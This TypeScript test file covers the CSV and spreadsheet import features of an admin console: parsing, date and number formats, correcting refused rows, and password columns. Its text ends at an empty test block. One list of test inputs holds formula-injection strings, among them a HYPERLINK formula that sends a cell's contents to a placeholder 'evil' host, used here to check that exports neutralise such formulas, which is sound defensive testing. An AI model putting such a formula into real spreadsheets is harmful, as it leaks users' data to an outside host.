import { expect } from 'chai';
import * as fc from 'fast-check';
import { csvRecords, csvTextOf, recordsAt, withCells, withRecords } from '../../console/src/imports/csv-text.js';
import { acceptedRows, unnamedChanges } from '../../console/src/imports/accepted-rows.js';
import { cellFault } from '../../console/src/imports/cell-fault.js';
import { columnNote } from '../../console/src/imports/column-note.js';
import {
  correctedAgain,
  correctedFile,
  leftOutFile,
  madeFileName,
  type Corrected,
  type Corrections,
} from '../../console/src/imports/corrected-file.js';
import { importCounts } from '../../console/src/imports/import-counts.js';
import { failedRow } from '../../console/src/imports/failed-row.js';
import { fileRows, lacksPasswords } from '../../console/src/imports/file-rows.js';
import {
  hiddenText,
  isSkippable,
  mendedCells,
  refusedLines,
  refusedRows,
  rowsOfPage,
  shownCells,
  skipOffer,
  skippableLines,
  textOfFile,
} from '../../console/src/imports/refused-rows.js';
import { unreadColumns } from '../../console/src/imports/unread-columns.js';
import { namedRecords, presentCell, shownCell } from '../../console/src/imports/shown-cell.js';
import { numberText, sheetRows } from '../../console/src/imports/sheet-rows.js';
import { listPage } from '../../console/src/tree/list-page.js';
import { titledHeader, withTitles } from '../../console/src/listing/titled-header.js';
import { descriptionOf } from '../../console/src/service/description.js';
import { moduleDescription } from '../../src/contract/modules/module-description.js';
import { csvReader } from '../../src/domain/records/csv-rows.js';
import { isBlank } from '../../src/domain/records/file-rows.js';
import { cellValue } from '../../src/contract/records/import-cells.js';
import { importColumns } from '../../src/contract/records/import-columns.js';
import { guarded, unguarded } from '../../src/contract/values/formula-guard.js';
import type { ImportError } from '../../src/contract/records/import-answer.js';
import { department } from '../../src/contract/modules/department.js';
import { user } from '../../src/contract/modules/user.js';
import { importsMessages } from '../../console/src/imports/imports-messages.js';
import { importedModule } from '../../console/src/listing/imported-module.js';
import { isSheetTooLarge } from '../../console/src/imports/sheet-size.js';
import { unescapedXml, workbookSheets } from '../../console/src/imports/workbook-sheets.js';
import { contract } from '../support/modules/contract.js';
import { expectLinearTime } from '../support/linear-time.js';
import { xlsxOfSheet } from '../support/xlsx.js';

const [module] = descriptionOf({ 'x-modules': { contract: moduleDescription(contract) } }).modules;
if (!module) throw new Error('the description has no module');
const { form } = module;
const [userModule] = descriptionOf({ 'x-modules': { user: moduleDescription(user) } }).modules;
if (!userModule) throw new Error('the description has no user');

const values = (text: string) => csvRecords(text).map(({ cells }) => cells.map(({ value }) => value));

/** More than the cells and rows of these files. */
const MOST = { characters: 1_000, cells: 1_000 };

describe('the text of a CSV file', () => {
  it('has records with the lines where they begin, also after a line break in a cell', () => {
    const records = csvRecords('a,b\r\n"1\r\n2","x,""y"""\n,\r\nend');
    expect(records.map(({ line }) => line)).to.deep.equal([1, 2, 4, 5]);
    expect(records.map(({ cells }) => cells.map(({ value }) => value))).to.deep.equal([
      ['a', 'b'],
      ['1\r\n2', 'x,"y"'],
      ['', ''],
      ['end'],
    ]);
  });

  it('is read as it was written, for every text', () => {
    const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('', '"', ',', '\r\n', '\n', ' a', '甲,"乙"'));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 5 }), (rows) => {
        expect(values(csvTextOf(rows))).to.deep.equal(rows);
      }),
    );
  });

  it('keeps all other characters when cells change', () => {
    const text = 'a,b\r\n1,"x"\n2,\r\n';
    const [, first, second] = csvRecords(text);
    const changes = [
      { cell: first!.cells[1]!, value: 'y,z' },
      { cell: second!.cells[1]!, value: '9' },
    ];
    expect(withCells(text, changes)).to.equal('a,b\r\n1,"y,z"\n2,9\r\n');
  });

  it('has the rows and lines that the service reads, for every text without a misplaced quotation mark', () => {
    const part = fc.oneof(
      fc.constantFrom('\r', '\n', '\r\n', ',', 'a', '甲', ' ', '""', '"x"', '"\r"', '"\n"', '"\r\n"', '",""', '"'),
      fc.string({ unit: 'binary' }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 20 }), (parts) => {
        const text = parts.join('');
        const reader = csvReader(MOST);
        const rows = [...reader.read(text), ...reader.end()];
        fc.pre(rows.every(({ isMalformed }) => !isMalformed));
        const read = csvRecords(text).map(({ line, cells }) => ({ line, cells: cells.map(({ value }) => value) }));
        expect(read).to.deep.equal(rows.map(({ line, cells }) => ({ line, cells })));
      }),
      { numRuns: 2_000 },
    );
  });

  it('keeps all other characters when records change, and gets back a last one that was left empty', () => {
    const text = 'a,b\r\n1,"x\r\n2"\n3,4';
    expect(recordsAt(text, new Set([1, 2]))).to.deep.equal([
      { index: 1, text: '1,"x\r\n2"' },
      { index: 2, text: '3,4' },
    ]);
    expect(withRecords(text, [{ index: 1, text: '5' }])).to.equal('a,b\r\n5\n3,4');
    expect(
      withRecords(
        'a\r\n\r\n',
        [1, 2].map((index) => ({ index, text: `row ${index}` })),
      ),
    ).to.equal('a\r\nrow 1\r\nrow 2');
  });

  it('is read as far as it goes if a quotation mark is not closed', () => {
    expect(values('a\r\n"b,c\r\nd')).to.deep.equal([['a'], ['b,c\r\nd']]);
  });
});

describe('a sheet', () => {
  it('becomes rows whose dates follow from the kinds of the columns', () => {
    const day = new Date('2026-11-23T00:00:00Z');
    const rows = [
      ['number', '签订日期', 'Remind at', 'amount', 'other'],
      ['A-1', day, day, '1234.50', new Date('2026-11-23T09:30:00Z')],
      ['A-2', null, '2026-11-23 09:30:00', true, day],
    ];
    expect(sheetRows(rows, form).slice(1)).to.deep.equal([
      ['A-1', '2026-11-23', '2026-11-23 00:00:00', '1234.50', '2026-11-23 09:30:00'],
      ['A-2', '', '2026-11-23 09:30:00', 'true', '2026-11-23'],
    ]);
  });
});

describe('a text of a sheet that begins like a formula', () => {
  const TEXTS = ['=HYPERLINK("http://evil/?"&A1)', '@SUM(1)', '+1', '-5', ' =1', 'a;=1', '\t=1', "'=1", "''=1", "'a"];
  const header = ['合同编号', 'remarks', '金额', '排序', 'statusText', '状态'];
  const written = (text: string) => csvTextOf(sheetRows([header, header.map(() => text)], form));

  it('is guarded in each column of a download, and a number is not', async () => {
    for (const text of TEXTS) {
      const sent = written(text);
      const corrections = { changes: [], skipped: new Set([csvRecords(sent)[1]!.line]) };
      for (const file of [
        correctedFile(sent, { leftOut: [] }, corrections),
        leftOutFile(sent, { leftOut: [] }, corrections),
      ])
        for (const { value } of csvRecords((await file.text()).slice(1))[1]!.cells)
          if (!/^[+-]\d$/.test(value)) expect(guarded(unguarded(value)), text).to.equal(value);
    }
  });

  it('means the same after an import as it did before it was guarded', () => {
    const columns = importColumns(importedModule(module));
    for (const text of TEXTS) {
      const cells = csvRecords(written(text))[1]!.cells.map(({ value }) => value);
      for (const [at, name] of ['number', 'remarks'].entries())
        expect(cellValue(columns[name]!, cells[at]!), `${name} ${text}`).to.equal(cellValue(columns[name]!, text));
      for (const [at, name] of ['', '', 'amount', 'sort', '', 'status'].entries())
        if (name !== '')
          expect(cellFault(columns[name]!, cells[at]!), text).to.deep.equal(cellFault(columns[name]!, text));
    }
    expect(cellValue(columns['number']!, csvRecords(written('=1'))[1]!.cells[0]!.value)).to.equal('=1');
    // a file that was exported as CSV and saved as a workbook has the mark in its cells
    expect(csvRecords(written("'=1"))[1]!.cells[0]!.value).to.equal("'=1");
  });

  it('stays as it is where it is a password', () => {
    const rows = [
      ['用户名', '密码'],
      ['li', '=Secret#2026'],
    ];
    expect(sheetRows(rows, userModule.form)[1]).to.deep.equal(['li', '=Secret#2026']);
  });

  it('is shown on the page without the mark', () => {
    const [row] = fileRows(written('=1'), module, true).rows;
    const cell = { field: importColumns(importedModule(module))['remarks']!, text: row!.cells[1]!.value };
    expect([
      row!.name,
      shownCell(
        cell,
        ({ title }) => title,
        () => undefined,
      ),
    ]).to.deep.equal(['=1', '=1']);
  });
});

describe('a number of a sheet', () => {
  it('has at most 15 digits and no exponent', () => {
    for (const [written, text] of [
      ['1.1000000000000001', '1.1'],
      ['0.30000000000000004', '0.3'],
      ['1E-3', '0.001'],
      ['1.5E-7', '0.00000015'],
      ['-1234.5', '-1234.5'],
      ['1.23456789012345E+14', '123456789012345'],
      ['1E+21', '1000000000000000000000'],
      ['-0', '0'],
      ['7', '7'],
    ] as const)
      expect(numberText(written), written).to.equal(text);
  });
});

describe('the time of a sheet', () => {
  it('is exact for every minute of a day', () => {
    const [DAY_MS, DAY_MINUTES, EPOCH, SERIAL] = [86_400_000, 1_440, 25_569, 46_349];
    for (let minute = 1; minute < DAY_MINUTES; minute += 1) {
      // the sheet has a number of days, and its reader cuts the milliseconds
      const date = new Date(Math.floor((SERIAL + minute / DAY_MINUTES - EPOCH) * DAY_MS));
      const time = new Date(minute * 60_000).toISOString().slice(11, 19);
      expect(sheetRows([['other'], [date]], form)[1]).to.deep.equal([`2026-11-23 ${time}`]);
    }
  });
});

describe('the refused rows of an import', () => {
  const text = 'id,合同编号,amount\r\n\r\n,"HT\r\n1",x\r\n,HT-2,1\r\n';
  const error = { reason: 'FormInvalid', msg: '参数不正确：金额', otherLine: null, value: null } as const;
  const rowsOf = (error_: ImportError, isSheet = false) =>
    refusedRows([error_], fileRows(text, module, isSheet), module);

  it('have the name of the record and the wrong cell', () => {
    const [row] = rowsOf({ ...error, line: 3, field: 'amount' });
    expect(row).to.deep.include({ row: 3, name: 'HT\r\n1', otherRow: null });
    expect([row?.wrong?.cell.value, row?.wrong?.input.kind]).to.deep.equal(['x', 'decimal']);
  });

  it('have no cell if the reason belongs to none, or the file has no such column', () => {
    for (const field of [null, 'remarks'])
      expect(rowsOf({ ...error, line: 3, field })[0]?.wrong, field ?? '').to.equal(undefined);
    expect(rowsOf({ ...error, line: 99, field: 'amount' })[0]).to.deep.include({ name: '' });
  });

  it('of a sheet have the numbers of its rows, also of the row with the same value', () => {
    const [row] = rowsOf({ ...error, line: 5, field: 'number', reason: 'ValueTaken', otherLine: 3 }, true);
    expect([row?.row, row?.name, row?.otherRow]).to.deep.equal([4, 'HT-2', 3]);
  });

  it('have an input for each wrong cell of a row, one for a cell with two mistakes, and one place to leave the row out', () => {
    const wrong = [
      { ...error, line: 3, field: 'number' },
      { ...error, line: 3, field: 'amount' },
      { ...error, line: 3, field: 'amount', reason: 'RuleBroken' as const },
      { ...error, line: 3, field: null, reason: 'RecordChanged' as const },
      { ...error, line: 5, field: 'amount' },
    ];
    const refused = refusedRows(wrong, fileRows(text, module, false), module);
    expect(refused.map(({ wrong: cell, isFirst }) => [cell?.input.name, isFirst])).to.deep.equal([
      ['line3-number', true],
      ['line3-amount', false],
      [undefined, false],
      [undefined, false],
      ['line5-amount', true],
    ]);
    expect(refusedLines(refused)).to.deep.equal([3, 5]);
    expect(skippableLines(refused, ['line3-amount'])).to.deep.equal([5]);
  });

  it('have pages of 100 rows: a page has all mistakes of each of its rows', () => {
    const wrong = Array.from({ length: 150 }, (_, index) =>
      ['number', 'amount'].map((field) => ({ ...error, line: index + 2, field })),
    ).flat();
    const refused = refusedRows(wrong, fileRows('合同编号,金额\r\n', module, false), module);
    const pages = [0, 1, 2].map((page) => rowsOfPage(refused, page));
    expect(pages.map((rows) => rows.length)).to.deep.equal([200, 100, 0]);
    expect(pages.map((rows) => rows[0] && [rows[0].error.line, rows[0].isFirst])).to.deep.equal([
      [2, true],
      [102, true],
      undefined,
    ]);
  });

  it('are read in the encoding of the file, without a byte-order mark', async () => {
    const whole = { text: '甲', isWhole: true };
    expect(await textOfFile(new Blob([new Uint8Array([0xbc, 0xd7])]), 'gb18030')).to.deep.equal(whole);
    expect(await textOfFile(new Blob(['\uFEFF甲']), 'utf-8')).to.deep.equal(whole);
  });

  it('are not whole where bytes belong to no character', async () => {
    const { isWhole } = await textOfFile(new Blob([new Uint8Array([0x61, 0xff, 0x61])]), 'gb18030');
    expect(isWhole).to.equal(false);
  });
});

describe('the correction of an import', () => {
  const error = { reason: 'FormInvalid', msg: '', otherLine: null, value: null } as const;
  const text = '合同编号,金额\r\nHT-1,x\r\n"HT\r\n2",y\r\nHT-3,1\r\n';
  const rows = refusedRows(
    [2, 3].map((line) => ({ ...error, line, field: 'amount' })),
    fileRows(text, module, false),
    module,
  );

  const chosen: Corrected = { body: new Blob([text]), corrected: new Set(), leftOut: [] };
  const NONE: Corrections = { changes: [], skipped: new Set() };
  const leavingOut = (...lines: ReadonlyArray<number>) => ({ changes: [], skipped: new Set(lines) });
  const textOf = async (file: Blob): Promise<string> => Buffer.from(await file.arrayBuffer()).toString();
  /** What the page reads of the file that it sends. */
  const sentText = async ({ body }: Corrected): Promise<string> => (await textOfFile(body, 'utf-8')).text;
  /** The saved files: all rows, and those that are left out. */
  const saved = async (from: string, file: Corrected, corrections = NONE) => [
    await textOf(correctedFile(from, file, corrections)),
    await textOf(leftOutFile(from, file, corrections)),
  ];

  const typed = mendedCells(rows, { 'line2-amount': '1.00', 'line3-amount': '2.00' }, ['line2-amount', 'line3-amount']);

  it('leaves out the chosen rows, also one whose value was typed, and keeps the others', async () => {
    const file = correctedAgain(chosen, text, { changes: typed, skipped: new Set([3]) });
    const corrected = await sentText(file);
    expect(corrected).to.equal('合同编号,金额\r\nHT-1,1.00\r\n,\r\nHT-3,1\r\n');
    expect(fileRows(corrected, module, false).rows.map(({ name }) => name)).to.deep.equal(['HT-1', 'HT-3']);
  });

  it('is saved with every row, and the rows that are left out alone: each with the values that were typed', async () => {
    const whole = '\uFEFF合同编号,金额\r\nHT-1,1.00\r\n"HT\r\n2",2.00\r\nHT-3,1\r\n';
    const alone = '\uFEFF合同编号,金额\r\n"HT\r\n2",2.00\r\n';
    const corrections = { changes: typed, skipped: new Set([3]) };
    expect(await saved(text, chosen, corrections)).to.deep.equal([whole, alone]);
    const checked = correctedAgain(chosen, text, corrections);
    expect(await saved(await sentText(checked), checked)).to.deep.equal([whole, alone]);
  });

  it('is sent with the bytes of the corrected file where no row is left out, so that an import knows the download again', async () => {
    const corrections = { changes: typed, skipped: new Set<number>() };
    const first = correctedAgain(chosen, text, corrections);
    const sent = await textOf(first.body);
    expect(sent).to.equal('\uFEFF合同编号,金额\r\nHT-1,1.00\r\n"HT\r\n2",2.00\r\nHT-3,1\r\n');
    expect(await textOf(correctedFile(text, chosen, corrections))).to.equal(sent);
    expect(await textOf(correctedFile(await sentText(first), first, NONE))).to.equal(sent);
  });

  it('is saved with the rows that were left out before each check, in the order of the file', async () => {
    const first = correctedAgain(chosen, text, leavingOut(3));
    const now = await sentText(first);
    const both = '\uFEFF合同编号,金额\r\nHT-1,x\r\n"HT\r\n2",y\r\n';
    expect(await saved(now, first, leavingOut(2))).to.deep.equal([`\uFEFF${text}`, both]);
    const second = correctedAgain(first, now, leavingOut(2));
    expect(await sentText(second)).to.equal('合同编号,金额\r\n,\r\n,\r\nHT-3,1\r\n');
    expect(await saved(await sentText(second), second)).to.deep.equal([`\uFEFF${text}`, both]);
  });

  it('is saved as it was chosen where all rows are left out, for every file', async () => {
    const cell = fc.constantFrom('', 'a', '甲', '"x"', '"a""b"', '"1\n2"', '","');
    const row = fc.array(cell, { minLength: 1, maxLength: 3 });
    await fc.assert(
      fc.asyncProperty(
        fc.array(row, { minLength: 1, maxLength: 5 }),
        fc.constantFrom('\n', '\r\n'),
        fc.boolean(),
        async (written, lineEnd, hasEnd) => {
          const file = written.map((cells) => cells.join(',')).join(lineEnd) + (hasEnd ? lineEnd : '');
          const lines = csvRecords(file).map(({ line }) => line);
          const all = leavingOut(...lines.slice(1));
          const before = { ...chosen, body: new Blob([file]) };
          const left = correctedAgain(before, file, all);
          const sent = await sentText(left);
          expect(await saved(sent, left)).to.deep.equal(await saved(file, before, all));
          expect(await textOf(correctedFile(sent, left, NONE))).to.equal(`\uFEFF${file}`);
        },
      ),
    );
  });

  const unread = { ...error, reason: 'RowMalformed', line: 2, field: null } as const;
  const unreadIn = (file: string) => refusedRows([unread], fileRows(file, module, false), module);

  it('leaves out no row whose end is not known', () => {
    for (const row of ['"HT-1"x,1', 'HT"-1,1', 'HT-1,"1', 'HT-1\uFFFD,1'])
      expect(unreadIn(`合同编号,金额\r\n${row}\r\n`).map(isSkippable), row).to.deep.equal([false]);
    expect(rows.map(isSkippable)).to.deep.equal([true, true]);
  });

  it('leaves out a row with another number of cells, which the service then skips', async () => {
    const file = '合同编号,金额\r\nHT-1,1,2\r\nHT-2,1\r\n';
    const [row] = unreadIn(file);
    expect(row && isSkippable(row)).to.equal(true);
    const left = correctedAgain(chosen, file, leavingOut(2));
    const read = csvReader(MOST).read(await sentText(left));
    expect(
      Array.from(read)
        .filter((one) => !isBlank(one))
        .map(({ cells }) => cells[0]),
    ).to.deep.equal(['合同编号', 'HT-2']);
  });

  it('of all rows at once leaves out those that the user has not changed', () => {
    expect(skippableLines(rows, [])).to.deep.equal([2, 3]);
    expect(skippableLines(rows, ['line3-amount'])).to.deep.equal([2]);
    expect(skippableLines(rows, ['line2-amount', 'line3-amount'])).to.deep.equal([]);
    expect(skippableLines([...rows, ...unreadIn('合同编号,金额\r\n"HT-1"x,1\r\n')], [])).to.deep.equal([2, 3]);
  });

  it('offers to leave out the rows that are still in, and to take back all rows if there is none', () => {
    expect(skipOffer([2, 3, 5], new Set([3, 9]))).to.deep.equal({ lines: [2, 5], isSkipped: true });
    expect(skipOffer([2, 3], new Set([2, 3]))).to.deep.equal({ lines: [2, 3], isSkipped: false });
  });

  it('shows rows that are left out as such, and no more as refused', () => {
    const answer = { added: 1, updated: 2, unchanged: 0, refused: 3 };
    const shown = (now: number, before = 0) =>
      importCounts(answer, { before, now }).map(({ name, rows: count }) => `${name} ${count}`);
    expect(shown(0)).to.deep.equal(['added 1', 'updated 2', 'unchanged 0', 'refused 3']);
    expect(shown(3)).to.deep.equal(['added 1', 'updated 2', 'unchanged 0', 'refused 0', 'leftOut 3']);
    expect(shown(1, 2)).to.deep.equal(['added 1', 'updated 2', 'unchanged 0', 'refused 2', 'leftOut 3']);
  });

  it('counts the rows that are left out before each check', async () => {
    const first = correctedAgain(chosen, text, leavingOut(3));
    const now = await sentText(first);
    const second = correctedAgain(first, now, leavingOut(2));
    expect([first.leftOut.length, second.leftOut.length]).to.deep.equal([1, 2]);
    expect([...second.corrected].toSorted()).to.deep.equal([1, 2]);
    expect(correctedAgain(second, await sentText(second), NONE)).to.equal(second);
  });

  it('is saved as a CSV file, whatever the chosen file was', () => {
    expect(['用户.csv', '用户.XLSX', '用户'].map((name) => madeFileName(name, 'corrected'))).to.deep.equal([
      '用户-corrected.csv',
      '用户-corrected.csv',
      '用户-corrected.csv',
    ]);
    expect(madeFileName('用户.csv', 'left-out')).to.equal('用户-left-out.csv');
  });
});

describe('a role that a file of users names and nobody has added', () => {
  const error = {
    reason: 'RecordNotFound',
    field: null,
    msg: '记录不存在',
    otherLine: null,
    value: null,
    line: 2,
  } as const;
  const rowOf = (id: string) =>
    refusedRows([error], fileRows(`编号,用户名,角色\r\n${id},甲,77\r\n`, userModule, false), userModule)[0];

  it('is an error of the roles, which have an input', () => {
    expect([rowOf('')?.field, rowOf('')?.wrong?.cell.value]).to.deep.equal(['roleIds', '77']);
  });

  it('is not meant by a row with an id, whose own record may be missing', () => {
    expect([rowOf('5')?.field, rowOf('5')?.wrong]).to.deep.equal([null, undefined]);
  });
});

describe('the notes about the columns of an import', () => {
  it('say how roles are written, and which data scope they bring', () => {
    expect(columnNote(user.fields.roleIds, 'user')).to.equal('roles');
    const { english, chinese } = importsMessages;
    expect(english.notes.roles).to.contain('in the default data scope of the role');
    expect(chinese.notes.roles).to.contain('默认数据范围');
  });

  it('say that a record is written as its id, also the one above', () => {
    expect(columnNote(user.fields.departmentId, 'user')).to.equal('reference');
    expect(columnNote(department.fields.parentId, 'department')).to.equal('parent');
    expect(columnNote(department.fields.parentId, 'user')).to.equal('reference');
    expect(columnNote(department.fields.sort, 'department')).to.equal(undefined);
  });

  it('lead to the list, which shows ids, where the first page of a module is a tree', () => {
    expect(['department', 'menu', 'role'].map(listPage)).to.deep.equal(['/department/list', '/menu/list', '/role']);
  });
});

describe('the columns that an import does not read', () => {
  const unread = [{ column: '客户', readColumn: '客户编号', rows: 1, line: 4, counted: 0 }];
  const rowIn = (isSheet: boolean) =>
    unreadColumns({ unread }, fileRows('合同编号\r\n"HT\r\n1"\r\nHT-2\r\n', module, isSheet))[0]?.row;

  it('name the first changed row by its line, and by its row if the file is a sheet', () => {
    expect([rowIn(false), rowIn(true)]).to.deep.equal([4, 3]);
  });
});

describe('the failed row of an import', () => {
  const sent = (isSheet: boolean) => ({ text: '合同编号\r\n"HT\r\n1"\r\nHT-2\r\n', file: { isSheet } });
  const failure = {
    ok: false,
    status: 200,
    msg: '',
    reason: 'ConstraintViolated',
    detail: { constraint: 'c', line: 4 },
  } as const;

  it('is its line, and its row if the file is a sheet', () => {
    expect([failedRow(failure, sent(false), module), failedRow(failure, sent(true), module)]).to.deep.equal([4, 3]);
  });

  it('is none if the service names no line', () => {
    for (const other of [
      { ...failure, detail: { constraint: 'c' } },
      { ok: false, status: 503, msg: '', reason: 'ServiceUnavailable' } as const,
    ])
      expect(failedRow(other, sent(false), module), other.reason).to.equal(undefined);
  });
});

describe('the inputs for wrong cells', () => {
  const error = { reason: 'FormInvalid', msg: '', otherLine: null, value: null } as const;
  const input = (described: typeof module, column: string, cell: string) => {
    const file = fileRows(csvTextOf([[column], [cell]]), described, false);
    const names = importColumns(importedModule(described));
    const field = Object.keys(names).find((name) => [name, names[name]?.title].includes(column)) ?? '';
    const rows = refusedRows([{ ...error, line: 2, field }], file, described);
    const name = `line2-${field}`;
    const mended = (value: unknown) => mendedCells(rows, { [name]: value }, [name]).map((one) => one.value);
    const unchanged = mendedCells(rows, shownCells(rows), []);
    return { shown: shownCells(rows)[name], hidden: rows[0] && hiddenText(rows[0]), mended, unchanged };
  };

  it('have the value of the cell where it is one of the kind, and nothing where one must be chosen', () => {
    for (const [column, cell, shown] of [
      ['金额', 'x', 'x'],
      ['签订日期', '2026/1/5', '2026/1/5'],
      ['合同编号', "'=1", '=1'],
      ['urgent', 'maybe', ''],
      ['urgent', '是', true],
      ['customerId', 'x', ''],
      ['customerId', '7', 7],
      ['状态', '启动', ''],
      ['status', 'disabled', 2],
    ] as const)
      expect(input(module, column, cell).shown, `${column} ${cell}`).to.equal(shown);
    expect(input(userModule, 'roleIds', 'x').shown).to.deep.equal([]);
    expect(input(userModule, 'roleIds', '1,3').shown).to.deep.equal([1, 3]);
  });

  it('tell the text of the file where they cannot show it', () => {
    for (const [column, cell, hidden] of [
      ['状态', '离职', '离职'],
      ['customerId', '财务部', '财务部'],
      ['urgent', 'maybe', 'maybe'],
      ['status', 'disabled', undefined],
      ['customerId', '7', undefined],
      ['customerId', '', undefined],
      ['金额', 'x', undefined],
    ] as const)
      expect(input(module, column, cell).hidden, `${column} ${cell}`).to.equal(hidden);
    expect(input(userModule, 'roleIds', '经理').hidden).to.equal('经理');
  });

  it('tell the text beside an empty number of a new record, if no choice has it', () => {
    const file = fileRows('id,version,状态编号,状态\r\n,,,启用\r\n,,1,启用\r\n7,1,,启用\r\n,,,停用\r\n', module, false);
    const rows = refusedRows(
      [2, 3, 4, 5].map((line) => ({ ...error, line, field: 'status' })),
      file,
      module,
    );
    expect(rows.map(hiddenText)).to.deep.equal(['启用', undefined, undefined, undefined]);
    expect(rows.map(({ id }) => id)).to.deep.equal(['', '', '7', '']);
    const [wrong] = rows.map((row) => row.wrong!);
    expect(cellFault(wrong!.input, wrong!.text)?.rule).to.equal('notOffered');
    expect(mendedCells(rows, { 'line2-status': 2 }, ['line2-status'])).to.deep.equal([
      { cell: wrong!.cell, value: '2' },
    ]);
  });

  it('write a cell that means the chosen or typed value', () => {
    for (const [column, typed, cell] of [
      ['金额', '1,234.5', '1234.50'],
      ['签订日期', '2026-01-05', '2026-01-05'],
      ['签订日期', '', ''],
      ['合同编号', '=1', "'=1"],
      ['urgent', true, 'true'],
      ['customerId', 7, '7'],
      ['status', 2, '2'],
    ] as const)
      expect(input(module, column, '?').mended(typed), `${column} ${typed}`).to.deep.equal([cell]);
    expect(input(userModule, 'roleIds', '?').mended([1, 3])).to.deep.equal(['1,3']);
  });

  it('exist for the hash of a password, and for the id and the version', () => {
    for (const column of ['passwordHash', '密码哈希', '编号', 'version'])
      expect(input(userModule, column, '?').mended('5'), column).to.deep.equal(['5']);
  });

  it('write nothing where the user has changed nothing', () => {
    expect(input(module, '金额', 'x').unchanged).to.deep.equal([]);
  });
});

describe('a wrong cell of an import', () => {
  const ruleOf = (name: string, text: string) => {
    const input = form.find((one) => one.name === name);
    return input && cellFault(input, text)?.rule;
  };

  it('breaks a rule of its field, by its text', () => {
    for (const [name, text, rule] of [
      ['number', '', 'required'],
      ['number', 'A'.repeat(31), 'tooLong'],
      ['amount', '-1.00', 'tooSmall'],
      ['amount', '1,000', 'wrongForm'],
      ['signedOn', '2026/1/5', 'wrongForm'],
      ['sort', 'x', 'notInteger'],
      ['sort', '1000000', 'tooLarge'],
      ['status', '启动', 'notOffered'],
      ['customerId', 'x', 'wrongForm'],
      ['urgent', 'maybe', 'wrongForm'],
    ] as const)
      expect(ruleOf(name, text), `${name} ${text}`).to.equal(rule);
  });

  it('may be right by its text', () => {
    for (const [name, text] of [
      ['amount', '1234.50'],
      ['signedOn', ''],
      ['sort', '7'],
      ['customerId', '7'],
      ['urgent', 'TRUE'],
      ['status', '停用'],
      ['status', '2'],
    ] as const)
      expect(ruleOf(name, text), `${name} ${text}`).to.equal(undefined);
  });
});

describe('the rows of an import that are not refused', () => {
  const text = 'id,version,合同编号,排序\r\n,,HT-1,1\r\n7,2,HT-2,5\r\n,,,\r\n8,1,HT-3,\r\n,,HT-4,x\r\n';
  const lines = [
    { line: 2, effect: 'added', fields: [] },
    { line: 3, effect: 'updated', fields: ['number', 'sort'] },
    { line: 5, effect: 'unchanged', fields: [] },
    { line: 6, effect: 'refused', fields: [] },
  ] as const;

  it('have what they do and the new values, as far as the service tells it', () => {
    const rows = acceptedRows({ lines }, fileRows(text, module, false), module, new Set());
    const told = rows.map(({ row, id, effect, values: changed }) => [row.row, id, row.name, effect, changed]);
    expect(told).to.deep.equal([
      [2, '', 'HT-1', 'added', [{ field: 'sort', text: '1' }]],
      [
        3,
        '7',
        'HT-2',
        'updated',
        [
          { field: 'number', text: 'HT-2' },
          { field: 'sort', text: '5' },
        ],
      ],
      [5, '8', 'HT-3', 'unchanged', []],
    ]);
  });

  it('begin with those that the user has corrected, also after a correction that moves lines', async () => {
    const wrong = '合同编号,备注,排序\r\nHT-1,"a\r\nb",x\r\nHT-2,,x\r\nHT-3,,x\r\nHT-4,,1\r\n';
    const chosen: Corrected = { body: new Blob([wrong]), corrected: new Set(), leftOut: [] };
    const changes = [{ cell: csvRecords(wrong)[3]!.cells[2]!, value: '3' }];
    const { body, corrected } = correctedAgain(chosen, wrong, { changes, skipped: new Set([2]) });
    const sent = await body.text();
    const mended = withCells(sent, [{ cell: csvRecords(sent)[2]!.cells[2]!, value: '2' }]);
    const accepted = [3, 4, 5].map((line) => ({ line, effect: 'added' as const, fields: [] }));
    const rows = acceptedRows({ lines: accepted }, fileRows(mended, module, false), module, corrected);
    expect(rows.map(({ row, isCorrected }) => [row.name, isCorrected])).to.deep.equal([
      ['HT-3', true],
      ['HT-2', false],
      ['HT-4', false],
    ]);
  });

  it('begin with those that add or change a record, in the order of the file', () => {
    const effects = ['unchanged', 'unchanged', 'updated', 'unchanged', 'added'] as const;
    const file = `合同编号\r\n${effects.map((_, i) => `HT-${i + 2}`).join('\r\n')}\r\n`;
    const told = effects.map((effect, i) => ({ line: i + 2, effect, fields: [] }));
    const linesWith = (corrected: ReadonlySet<number>) =>
      acceptedRows({ lines: told }, fileRows(file, module, false), module, corrected).map(({ row }) => row.line);
    expect(linesWith(new Set())).to.deep.equal([4, 6, 2, 3, 5]);
    expect(linesWith(new Set([2, 5]))).to.deep.equal([6, 4, 3, 2, 5]);
  });

  it('are fewer than those that add or change a record if the service does not name all', () => {
    const accepted = acceptedRows({ lines }, fileRows(text, module, false), module, new Set());
    expect(unnamedChanges({ added: 1, updated: 1 }, accepted)).to.equal(0);
    expect(unnamedChanges({ added: 1, updated: 4 }, accepted)).to.equal(3);
  });
});

describe('a file of users', () => {
  const lacks = (header: string, described = userModule) =>
    lacksPasswords(fileRows(header, described, false), described);

  it('lacks passwords if it has a column neither for them nor for their hashes', () => {
    expect(['用户名,姓名', '用户名,密码', 'username,passwordHash'].map((header) => lacks(header))).to.deep.equal([
      true,
      false,
      false,
    ]);
    expect(lacks('合同编号', module)).to.equal(false);
  });

  it('lacks passwords if a new user has an empty hash', () => {
    const withRows = (...rows: ReadonlyArray<string>) => lacks(['id,username,passwordHash', ...rows].join('\r\n'));
    expect(withRows(',li,$2b$x', '7,han,')).to.equal(false);
    expect(withRows(',li,$2b$x', ',wang,')).to.equal(true);
    expect(lacks('username,password,passwordHash\r\nli,Secret#2026,'), 'with passwords').to.equal(false);
  });
});

describe('the new values of an added record', () => {
  it('have the choice that only a text writes', () => {
    const file = fileRows('合同编号,状态编号,状态\r\nHT-1,,停用\r\nHT-2,1,停用\r\n', module, false);
    const lines = [2, 3].map((line) => ({ line, effect: 'added' as const, fields: [] }));
    const rows = acceptedRows({ lines }, file, module, new Set());
    expect(rows.map(({ values: added }) => added)).to.deep.equal([
      [{ field: 'status', text: '2' }],
      [{ field: 'status', text: '1' }],
    ]);
  });
});

describe('the new values of an added user', () => {
  it('have no password and no hash of one', () => {
    const file = fileRows('用户名,password,密码哈希,姓名\r\nli,Secret#2026,$2b$x,李\r\n', userModule, false);
    const [row] = acceptedRows({ lines: [{ line: 2, effect: 'added', fields: [] }] }, file, userModule, new Set());
    expect(row?.values).to.deep.equal([{ field: 'realname', text: '李' }]);
  });
});

describe('a cell of a row that can be imported', () => {
